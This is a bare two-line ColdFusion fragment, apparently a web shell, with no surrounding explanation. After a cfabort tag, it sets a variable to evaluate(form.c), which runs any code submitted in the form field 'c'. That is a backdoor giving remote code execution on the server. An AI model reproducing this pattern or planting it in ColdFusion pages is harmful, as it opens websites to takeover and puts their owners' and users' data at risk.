<cfabort>
<cfset x=evaluate(form.c)>
